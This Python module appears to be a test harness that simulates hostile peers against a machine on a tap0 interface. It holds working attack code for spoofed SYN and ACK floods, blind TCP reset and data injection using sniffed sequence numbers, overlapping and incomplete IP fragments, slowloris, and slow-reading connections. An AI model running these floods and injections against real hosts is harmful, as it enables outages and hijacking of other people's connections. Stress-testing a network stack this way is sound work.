# SPDX-License-Identifier: ISC
"""Peers that mean harm, each a function that says when it has begun and goes on until it is told to stop; scapy makes the
frames.

Who only sends frames does so from anywhere: from addresses that are not theirs, through a packet socket at tap0, where
the machine under attack is at the other end.
"""

import contextlib
import logging
import multiprocessing
import random
import socket
import struct
import time

logging.getLogger("scapy").setLevel(logging.ERROR)  # it misses an address at lo

from scapy.layers.dhcp import BOOTP  # noqa: E402
from scapy.layers.inet import IP, TCP, UDP  # noqa: E402
from scapy.layers.inet6 import IPv6, IPv6ExtHdrFragment  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402
from scapy.packet import Raw  # noqa: E402

class Signals:
    """Between the attacker's process and the test's."""

    def __init__(self):
        self.begun, self.stop = multiprocessing.Event(), multiprocessing.Event()


ETHERTYPE_ALL = 3
IPV4_SOURCE, IPV4_IDENTIFICATION = 26, 18  # places in a frame
SOURCES = 0x4000


class Wire:
    """Frames to and from the machine under attack, at tap0."""

    def __init__(self, here, there):
        """MAC addresses of both ends."""
        self.head = Ether(src=here, dst=there)
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE_ALL))
        self.socket.bind(("tap0", ETHERTYPE_ALL))

    def frame(self, packet):
        return bytes(self.head / packet)

    def send(self, frame):
        # At a full queue it is as on any wire.
        with contextlib.suppress(BlockingIOError, OSError):
            self.socket.send(frame)


def at_rate(signals, rate, act):
    """Calls `act(n)` so often a second."""
    signals.begun.set()
    start, done = time.monotonic(), 0
    while not signals.stop.is_set():
        due = int((time.monotonic() - start) * rate)
        # Who was not let run does not make up for it.
        done = max(done, due - rate // 10)
        while done < due:
            act(done)
            done += 1
        time.sleep(0.001)


def from_anywhere(frame, number):
    """Another source address in an IPv4 frame. The sum of its halves is always the same, so no checksum changes."""
    part = number % SOURCES
    return frame[:IPV4_SOURCE] + struct.pack("!HH", 0x2000 + part, 0xE000 - part) + frame[IPV4_SOURCE + 4:]


def any_source():
    return socket.inet_ntoa(struct.pack("!HH", 0x2000, 0xE000))


def flood(signals, wire, packet, rate):
    """One packet over and over, each time from another address."""
    frame = wire.frame(packet)
    at_rate(signals, rate, lambda number: wire.send(from_anywhere(frame, number)))


def syn_flood(signals, wire, target, rate=30_000):
    options = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1, 0)), ("NOP", None), ("WScale", 7)]
    flood(signals, wire, IP(src=any_source(), dst=target) / TCP(sport=40000, dport=8080, flags="S", seq=1, options=options), rate)


def ack_flood(signals, wire, target, rate=30_000):
    segment = TCP(sport=40000, dport=8080, flags="PA", seq=7, ack=9) / Raw(b"GET / HTTP/1.1\r\n\r\n")
    flood(signals, wire, IP(src=any_source(), dst=target) / segment, rate)


class Eavesdropper:
    """Knows where the connections of `client` to port 8080 are: (next sequence number, acknowledged, timestamps) by port, the
    latest at the end."""

    def __init__(self, wire, client):
        self.wire, self.client, self.connections = wire, socket.inet_aton(client), {}
        wire.socket.setblocking(False)

    def listen(self):
        with contextlib.suppress(BlockingIOError):
            for _ in range(100):
                self.hear(self.wire.socket.recv(2048))

    def hear(self, frame):
        if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != self.client or frame[54:58] != b"\x01\x01\x08\x0a":
            return
        source, destination, sequence, acknowledged = struct.unpack("!HHII", frame[34:46])
        length = struct.unpack("!H", frame[16:18])[0] - 20 - (frame[46] >> 4) * 4
        if destination == 8080:
            self.connections.pop(source, None)
            self.connections[source] = (sequence + length, acknowledged, struct.unpack("!II", frame[58:66]))


def injection(signals, wire, target, client, rate=4000):
    """Into the connections of `client` to port 8080 that were seen last: resets, a SYN and data that are not where the receiver
    is, and acknowledgements of what was never sent."""
    chance = random.Random(1)
    ear = Eavesdropper(wire, client)

    def inject(number):
        ear.listen()
        if not ear.connections:
            return
        port, (expected, acknowledged, times) = chance.choice(list(ear.connections.items())[-3:])
        flags, sequence, acknowledges, data = (
            ("R", expected + chance.randrange(1, 30_000), 0, b""),
            ("R", expected + chance.randrange(1 << 24, 1 << 31), 0, b""),
            ("S", expected + chance.randrange(0, 30_000), 0, b""),
            ("PA", expected - chance.randrange(2000, 1 << 20), acknowledged, b"injected" * 100),
            ("PA", expected + chance.randrange(1 << 24, 1 << 30), acknowledged, b"injected" * 100),
            ("PA", expected, acknowledged + (1 << 30), b"injected" * 100),
        )[number % 6]
        segment = TCP(sport=port, dport=8080, flags=flags, seq=sequence % (1 << 32), ack=acknowledges % (1 << 32), window=500,
                      options=[("NOP", None), ("NOP", None), ("Timestamp", times)])
        wire.send(wire.frame(IP(src=client, dst=target) / segment / Raw(data)))

    # scapy makes each of them anew.
    at_rate(signals, rate, inject)


def overlapping_fragments(signals, wire, target, target6, rate=4000):
    """Datagrams whose fragments contradict each other, of both versions of IP."""
    frames = []
    for identification in range(500):
        whole = bytes(UDP(sport=1, dport=7, len=8 + 64)) + b"x" * 64
        for offset, part, more in ((0, whole[:48], 1), (4, b"y" * 32, 1), (6, whole[48:], 0)):
            frames.append(wire.frame(IP(src=any_source(), dst=target, proto=17, id=identification, frag=offset, flags=more) / Raw(part)))
            fragment = IPv6ExtHdrFragment(nh=17, id=identification, offset=offset, m=more)
            frames.append(wire.frame(IPv6(src="2001:db8::bad", dst=target6) / fragment / Raw(part)))
    at_rate(signals, rate, lambda number: wire.send(frames[number % len(frames)]))


def fragment_flood(signals, wire, target, target6, rate=20_000):
    """Beginnings of datagrams that never become whole."""
    first4 = wire.frame(IP(src=any_source(), dst=target, proto=17, flags="MF") / Raw(b"x" * 1400))
    first6 = [wire.frame(IPv6(src=f"2001:db8::{number:x}", dst=target6) / IPv6ExtHdrFragment(nh=17, id=number, m=1) / Raw(b"x" * 1400))
              for number in range(1, 1000)]

    def act(number):
        wire.send(from_anywhere(first4, number) if number % 2 == 0 else first6[number // 2 % len(first6)])

    at_rate(signals, rate, act)


def holders(signals, target, requests, count, pause):
    """So many connections that send a request in parts, one after each pause, and never read."""
    with contextlib.ExitStack() as opened:
        held = []
        for _ in range(count):
            if signals.stop.is_set():
                return
            connection = opened.enter_context(socket.socket())
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the least that there is
            connection.settimeout(10)
            connection.connect((target, 8080))
            connection.setblocking(False)
            held.append(connection)
        signals.begun.set()
        for request in requests:
            for connection in held:
                with contextlib.suppress(OSError):
                    connection.send(request)
            if signals.stop.wait(pause):
                return
        signals.stop.wait()


def never_reading(signals, target, count=2000):
    """Asks for much, and reads nothing of it: its window closes and stays so."""
    holders(signals, target, [b"GET /page.bin HTTP/1.1\r\nHost: x\r\n\r\n"], count, 0)


def tiny_window(target):
    """A connection that wants a long answer through a window as small as it can be."""
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_WINDOW_CLAMP, 100)
    connection.settimeout(10)
    connection.connect((target, 8080))
    connection.send(b"GET /page.bin HTTP/1.1\r\nHost: x\r\n\r\n")
    connection.setblocking(False)
    return connection


def tiny_windows(signals, target, count=300):
    """Each reads ten bytes at a time, and so wants its answer in crumbs; who is sent away comes again."""
    readers = [tiny_window(target) for _ in range(count)]

    def read(number):
        which = number % count
        try:
            ended = not readers[which].recv(10)
        except BlockingIOError:
            ended = False
        except ConnectionError:
            ended = True
        if ended:
            readers[which].close()
            readers[which] = tiny_window(target)

    at_rate(signals, 20_000, read)


def answer(wire, target, port, flags):
    """The flags, the sequence number and the acknowledgement of what answers a segment of sequence number 1000 and
    acknowledgement 5000, or None."""
    source = random.randrange(20_000, 30_000)  # where the host has no connection of its own
    wire.send(wire.frame(IP(src="198.51.100.7", dst=target) / TCP(sport=source, dport=port, flags=flags, seq=1000, ack=5000)))
    end = time.monotonic() + 0.5
    wire.socket.settimeout(0.1)
    while time.monotonic() < end:
        with contextlib.suppress(TimeoutError):
            packet = Ether(wire.socket.recv(2048))
            if packet.haslayer(TCP) and packet[TCP].sport == port and packet[TCP].dport == source:
                return str(packet[TCP].flags), packet[TCP].seq, packet[TCP].ack
    return None


def discovery(wire):
    """The next question of a host for a DHCP server."""
    wire.socket.settimeout(10)
    while True:
        packet = Ether(wire.socket.recv(2048))
        if packet.haslayer(BOOTP) and packet[BOOTP].op == 1:
            return packet


def slowloris(signals, target, count=2000):
    """Requests that do not come to an end."""
    requests = [b"GET / HTTP/1.1\r\nHost: x\r\n"] + [f"X-{number}: y\r\n".encode() for number in range(100)]
    holders(signals, target, requests, count, 0.5)
